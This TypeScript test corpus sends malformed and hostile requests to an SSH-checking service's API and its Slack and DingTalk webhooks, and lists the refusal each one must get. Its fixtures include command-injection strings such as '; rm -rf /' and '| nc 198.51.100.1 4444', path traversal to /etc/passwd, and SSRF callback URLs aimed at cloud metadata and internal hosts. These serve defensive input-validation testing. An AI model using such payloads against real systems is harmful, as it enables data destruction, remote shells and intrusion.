/**
 * The bad-input corpus (issue 13): hostile, malformed and off-limits requests on every route of
 * `npm start`, with Slack's and DingTalk's signatures computed here from their documentation.
 * A case may state the exact answer it must get (`expect`); every case must get no 5xx, and a
 * 4xx must name its field. Chat callbacks a case is allowed to cause go to `/expected/...` on
 * the stand-in; anything the service posts elsewhere is a request that should have been refused.
 */
import { createHmac } from 'node:crypto';

export interface Case {
  name: string;
  path: string;
  method: string;
  headers?: Record<string, string>;
  body?: string;
  /** The exact status and field this case must be answered with. */
  expect?: { status: number; field?: string };
}

export const UUID0 = '00000000-0000-4000-8000-000000000000';
const HOSTILE = [
  '$(id)',
  '`id`',
  '; rm -rf /',
  '| nc 198.51.100.1 4444',
  '../../etc/passwd',
  'a\nb',
  '\u0000',
  '%0a',
  "' OR 1=1 --",
  '<script>',
  'x'.repeat(300),
  '🙂',
  '-oProxyCommand=id',
];
/** Callback URLs that are not the allowed origin (the stand-in, `chat`): each must be refused by name. */
const offOrigin = (chat: string) => [
  'https://169.254.169.254/latest/meta-data',
  'http://10.0.0.1/hook',
  'http://[fd00::1]/hook',
  'https://hooks.slack.com/commands/T1/2/3',
  'https://oapi.dingtalk.com/robot/sendBySession?session=x',
  'https://hooks.slack.com.evil.example/x',
  'https://evil.example/hooks.slack.com',
  'ftp://hooks.slack.com/x',
  'javascript:alert(1)',
  'file:///etc/passwd',
  `${chat.replace('http:', 'https:')}/refused/https`,
  `${chat.replace('127.0.0.1', 'localhost')}/refused/by-name`,
  `${chat.replace(/:\d+$/, ':4601')}/refused/other-port`,
  `http://user:pw@${chat.slice('http://'.length)}/refused/userinfo`,
];

export const slackSignature = (secret: string, ts: string, body: string) => `v0=${createHmac('sha256', secret).update(`v0:${ts}:${body}`).digest('hex')}`;
export const dingtalkSign = (secret: string, ts: string) => createHmac('sha256', secret).update(`${ts}\n${secret}`).digest('base64');

const json = (path: string, body: unknown, expect?: Case['expect'], headers: Record<string, string> = {}): Case => ({
  name: `POST ${path.slice(0, 60)} ${JSON.stringify(body).slice(0, 60)}`,
  path,
  method: 'POST',
  headers: { 'content-type': 'application/json', ...headers },
  body: JSON.stringify(body),
  ...(expect ? { expect } : {}),
});

function httpApiCases(): Case[] {
  const cases: Case[] = [];
  for (const raw of ['', '{', 'null', '[]', '"x"', '42', '{"provider":', '{"a":1,}', 'true', '{"__proto__":{"x":1}}']) {
    cases.push({
      name: `POST /checks raw ${JSON.stringify(raw)}`,
      path: '/checks',
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: raw,
      expect: { status: 400, field: 'body' },
    });
  }
  const fields: Record<string, unknown[]> = {
    provider: [1, null, 'gcp', '', 'LOCAL', ['local']],
    instanceId: [1, null, '', ...HOSTILE],
    region: [1, 'eu-west-1; id', 'x'.repeat(40)],
    clientIp: ['1.2.3', '999.1.1.1', '10.0.0.0/8', 'localhost', 1, 'fe80::1%eth0', '::ffff:1.2.3.4.5'],
    // Only the deployment's SSH ports (22 here) may be probed: never another service's banner.
    port: ['22', 0, 65536, -1, 22.5, 6379, 3306, 25, 80, 443, 2222],
    user: ['', 'root;id', '-oProxy', 'a'.repeat(40), 1, '$(id)'],
    publicKey: [
      '-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA\n-----END OPENSSH PRIVATE KEY-----',
      'ssh-ed25519 not-base64!',
      'ssh-dss AAAA',
      1,
    ],
  };
  for (const [field, values] of Object.entries(fields)) {
    for (const v of values) {
      const body: Record<string, unknown> = { provider: 'local', instanceId: 'localhost', [field]: v };
      if (field === 'publicKey') body.user = 'alice';
      // region is not read for local; a bad one is refused by the type or length rule only.
      const expect = field === 'region' && typeof v === 'string' && v.length <= 32 ? undefined : { status: 400, field };
      cases.push(json('/checks', body, expect));
    }
  }
  cases.push(json('/checks', { provider: 'local', instanceId: 'localhost', extra: 1 }, { status: 400, field: 'extra' }));
  // Cloud providers are off under npm start unless their endpoints are on loopback.
  cases.push(json('/checks', { provider: 'aws', instanceId: 'i-0123456789abcdef0', region: 'eu-west-1' }, { status: 400, field: 'provider' }));
  cases.push(json('/checks', { provider: 'alibaba', instanceId: 'i-bp1abcdefghijklmnopq', region: 'cn-hangzhou' }, { status: 400, field: 'provider' }));
  const local = JSON.stringify({ provider: 'local', instanceId: 'localhost' });
  cases.push({
    name: 'POST /checks text/plain',
    path: '/checks',
    method: 'POST',
    headers: { 'content-type': 'text/plain' },
    body: local,
    expect: { status: 400, field: 'content-type' },
  });
  cases.push({
    name: 'POST /checks 9 KB',
    path: '/checks',
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify({ provider: 'local', instanceId: 'x'.repeat(9000) }),
    expect: { status: 413, field: 'body' },
  });
  // serverless-offline's authorizer override must not make anyone an IAM caller.
  const override = { 'sls-offline-authorizer-override': JSON.stringify({ iam: { userArn: 'arn:aws:iam::123456789012:user/forged' } }) };
  const refusedOverride = { status: 403, field: 'sls-offline-authorizer-override' };
  cases.push(json('/checks', JSON.parse(local), refusedOverride, override));
  cases.push(json(`/checks/${UUID0}/fix`, { apply: true }, refusedOverride, override));
  cases.push({ name: 'GET with override', path: `/checks/${UUID0}`, method: 'GET', headers: override, expect: refusedOverride });
  // Malformed, unknown and over-long ids on the GET and fix routes.
  // ('..' and '%2e%2e' are resolved by the URL itself into another route: the gateway's, not a handler's.)
  for (const id of ['nope', '1', `${UUID0}x`, 'x'.repeat(3000), 'x'.repeat(30_000), '.x', 'a.b', '%00', 'a%20b', 'a%2Fb', UUID0.replace(/-/g, '')]) {
    const bad = { status: 400, field: 'id' };
    cases.push({ name: `GET /checks/${id.slice(0, 20)} (${id.length})`, path: `/checks/${id}`, method: 'GET', expect: bad });
    cases.push(json(`/checks/${id}/fix`, {}, bad));
    cases.push({
      name: `GET fix run ${id.slice(0, 20)} (${id.length})`,
      path: `/checks/${UUID0}/fix/${id}`,
      method: 'GET',
      expect: { status: 400, field: 'fixId' },
    });
  }
  cases.push({ name: 'GET unknown report', path: `/checks/${UUID0}`, method: 'GET', expect: { status: 404, field: 'id' } });
  cases.push({ name: 'GET unknown report, upper case', path: `/checks/${UUID0.toUpperCase()}`, method: 'GET', expect: { status: 404, field: 'id' } });
  cases.push({ name: 'GET unknown fix run', path: `/checks/${UUID0}/fix/${UUID0}`, method: 'GET', expect: { status: 404, field: 'fixId' } });
  for (const body of [{}, { apply: false }, { apply: true }, { apply: true, only: ['tcp-wrappers'] }])
    cases.push(json(`/checks/${UUID0}/fix`, body, { status: 404, field: 'id' }));
  for (const [body, field] of [
    [{ apply: 'yes' }, 'apply'],
    [{ apply: true, only: ['nope'] }, 'only'],
    [{ only: 'tcp-wrappers' }, 'only'],
    [{ only: ['$(id)'] }, 'only.0'],
    [{ x: 1 }, 'x'],
  ] as const) {
    cases.push(json(`/checks/${UUID0}/fix`, body, { status: 400, field }));
  }
  return cases;
}

function slackCases(secret: string, chat: string): Case[] {
  const cases: Case[] = [];
  const now = () => String(Math.floor(Date.now() / 1000));
  const slack = (name: string, fields: Record<string, string>, opts: { ts?: string; sig?: string; omit?: boolean; expect?: Case['expect'] } = {}): Case => {
    const ts = opts.ts ?? now();
    const body = new URLSearchParams(fields).toString();
    const headers: Record<string, string> = { 'content-type': 'application/x-www-form-urlencoded' };
    if (!opts.omit) Object.assign(headers, { 'x-slack-request-timestamp': ts, 'x-slack-signature': opts.sig ?? slackSignature(secret, ts, body) });
    return { name: `slack ${name}`, path: '/slack/command', method: 'POST', headers, body, ...(opts.expect ? { expect: opts.expect } : {}) };
  };
  const cmd = { command: '/sshdoctor', text: 'local', response_url: `${chat}/refused/slack` };
  cases.push(slack('9 KB body', { ...cmd, text: 'x'.repeat(9000) }, { expect: { status: 413, field: 'body' } }));
  cases.push(slack('unsigned', cmd, { omit: true, expect: { status: 401, field: 'x-slack-request-timestamp' } }));
  cases.push(slack('bad signature', cmd, { sig: `v0=${'0'.repeat(64)}`, expect: { status: 401, field: 'x-slack-signature' } }));
  cases.push(slack('malformed signature', cmd, { sig: 'v1=abc', expect: { status: 401, field: 'x-slack-signature' } }));
  cases.push(
    slack('signed with another secret', cmd, {
      sig: slackSignature('not-the-secret', now(), new URLSearchParams(cmd).toString()),
      expect: { status: 401, field: 'x-slack-signature' },
    }),
  );
  cases.push(slack('stale', cmd, { ts: String(Math.floor(Date.now() / 1000) - 3600), expect: { status: 401, field: 'x-slack-request-timestamp' } }));
  cases.push(slack('future', cmd, { ts: String(Math.floor(Date.now() / 1000) + 3600), expect: { status: 401, field: 'x-slack-request-timestamp' } }));
  cases.push(slack('non-numeric timestamp', cmd, { ts: 'yesterday', expect: { status: 401, field: 'x-slack-request-timestamp' } }));
  // A replay: the same signed bytes twice. The first is answered and reported; the second refused.
  const once = slack('replayed (first)', { ...cmd, response_url: `${chat}/expected/slack-replay` }, { expect: { status: 200 } });
  cases.push(once, { ...once, name: 'slack replayed (again)', expect: { status: 401, field: 'x-slack-signature' } });
  for (const url of offOrigin(chat))
    cases.push(slack(`response_url ${url}`, { ...cmd, response_url: url }, { expect: { status: 400, field: 'response_url' } }));
  // Interactivity: buttons' callbacks and values are checked like the command's.
  const action = (actions: unknown[], url = `${chat}/refused/action`, extra: Record<string, unknown> = {}) =>
    JSON.stringify({ type: 'block_actions', user: { id: 'U0NOTALLOWED' }, response_url: url, actions, ...extra });
  for (const url of offOrigin(chat).slice(0, 6)) {
    cases.push(
      slack(
        `payload response_url ${url}`,
        { payload: action([{ action_id: 'sshdoctor_check_again', value: '{}' }], url) },
        { expect: { status: 400, field: 'payload.response_url' } },
      ),
    );
    cases.push(
      slack(
        `apply fix, response_url ${url}`,
        { payload: action([{ action_id: 'sshdoctor_apply_fix', value: UUID0 }], url) },
        { expect: { status: 400, field: 'payload.response_url' } },
      ),
    );
  }
  for (const [payload, field] of [
    ['{', 'payload'],
    ['[]', 'payload'],
    [JSON.stringify({ type: 'block_actions' }), 'payload.response_url'],
    [JSON.stringify({ type: 'view_submission', response_url: cmd.response_url, actions: [] }), 'payload.type'],
    [action([]), 'payload.actions'],
    [action([{ action_id: 'sshdoctor_check_again', value: '{' }]), 'payload.actions.value'],
    [action([{ action_id: 'sshdoctor_check_again', value: JSON.stringify({ provider: 'local', instanceId: '$(id)' }) }]), 'payload.actions.value.instanceId'],
  ] as const) {
    cases.push(slack(`payload ${payload.slice(0, 40)}`, { payload }, { expect: { status: 400, field } }));
  }
  // An "Apply fix" click by a user not on the allow-list: refused to that user (on the stand-in), nothing queued.
  cases.push(
    slack(
      'apply fix by an unlisted user',
      { payload: action([{ action_id: 'sshdoctor_apply_fix', value: UUID0 }], `${chat}/expected/apply-refused`) },
      { expect: { status: 200 } },
    ),
  );
  // "Check again" with another service's port: refused at once, by name; nothing runs or is posted.
  const port = action(
    [{ action_id: 'sshdoctor_check_again', value: JSON.stringify({ provider: 'local', instanceId: 'localhost', port: 6379 }) }],
    `${chat}/refused/port`,
  );
  cases.push(slack('check again on port 6379', { payload: port }, { expect: { status: 400, field: 'payload.actions.value.port' } }));
  // A field sent twice: the command's answer in Slack (200) refuses it by name; nothing runs.
  const dup = `command=%2Fsshdoctor&text=local&text=other&response_url=${encodeURIComponent(`${chat}/refused/dup`)}`;
  const ts = now();
  cases.push({
    name: 'slack duplicate field',
    path: '/slack/command',
    method: 'POST',
    headers: { 'content-type': 'application/x-www-form-urlencoded', 'x-slack-request-timestamp': ts, 'x-slack-signature': slackSignature(secret, ts, dup) },
    body: dup,
    expect: { status: 200 },
  });
  return cases;
}

function dingtalkCases(secret: string, chat: string): Case[] {
  const cases: Case[] = [];
  // DingTalk signs only the timestamp: each case gets its own millisecond, or the replay guard refuses it.
  let ms = Date.now();
  const ding = (name: string, body: unknown, opts: { ts?: string; sign?: string; raw?: string; expect?: Case['expect'] } = {}): Case => {
    const ts = opts.ts ?? String(ms--);
    return {
      name: `dingtalk ${name}`,
      path: '/dingtalk/command',
      method: 'POST',
      headers: { 'content-type': 'application/json', timestamp: ts, sign: opts.sign ?? dingtalkSign(secret, ts) },
      body: opts.raw ?? JSON.stringify(body),
      ...(opts.expect ? { expect: opts.expect } : {}),
    };
  };
  const msg = { text: { content: 'local' }, sessionWebhook: `${chat}/refused/dingtalk` };
  const badSign = { status: 401, field: 'sign' };
  cases.push(ding('9 KB body', { ...msg, text: { content: 'x'.repeat(9000) } }, { expect: { status: 413, field: 'body' } }));
  cases.push(ding('bad sign', msg, { sign: `${'A'.repeat(43)}=`, expect: badSign }));
  cases.push(ding('malformed sign', msg, { sign: 'abc', expect: badSign }));
  cases.push(ding('signed with another secret', msg, { sign: dingtalkSign('not-the-secret', String(Date.now())), expect: badSign }));
  cases.push(ding('stale', msg, { ts: String(Date.now() - 2 * 3600_000), expect: { status: 401, field: 'timestamp' } }));
  cases.push(ding('future', msg, { ts: String(Date.now() + 2 * 3600_000), expect: { status: 401, field: 'timestamp' } }));
  cases.push(ding('seconds not ms', msg, { ts: String(Math.floor(Date.now() / 1000)), expect: { status: 401, field: 'timestamp' } }));
  // DingTalk signs only the timestamp: a captured pair replayed, as sent or with a rewritten body, is refused.
  const ts = String(ms--);
  cases.push(ding('signed (first)', { ...msg, sessionWebhook: `${chat}/expected/dingtalk-replay` }, { ts, expect: { status: 200 } }));
  cases.push(ding('replayed as sent', { ...msg, sessionWebhook: `${chat}/expected/dingtalk-replay` }, { ts, expect: badSign }));
  cases.push(ding('replayed, body rewritten', { ...msg, text: { content: 'localhost' } }, { ts, expect: badSign }));
  for (const url of offOrigin(chat))
    cases.push(ding(`sessionWebhook ${url}`, { ...msg, sessionWebhook: url }, { expect: { status: 400, field: 'sessionWebhook' } }));
  for (const [raw, field] of [
    ['', 'body'],
    ['{', 'body'],
    ['[]', 'body'],
    ['{"text":1}', 'text'],
    [JSON.stringify({ text: { content: 'x'.repeat(600) }, sessionWebhook: msg.sessionWebhook }), 'text.content'],
  ] as const) {
    cases.push(ding(`raw ${raw.slice(0, 20)}`, null, { raw, expect: { status: 400, field } }));
  }
  // Hostile command text: answered in the chat (200), never run, nothing posted.
  for (const h of HOSTILE.slice(0, 6)) cases.push(ding(`content ${h.slice(0, 10)}`, { ...msg, text: { content: h } }, { expect: { status: 200 } }));
  return cases;
}

/** Every case, in the order they must be sent (replays follow what they replay). */
export function corpus(secrets: { slack: string; dingtalk: string }, chat: string): Case[] {
  return [...httpApiCases(), ...slackCases(secrets.slack, chat), ...dingtalkCases(secrets.dingtalk, chat)];
}
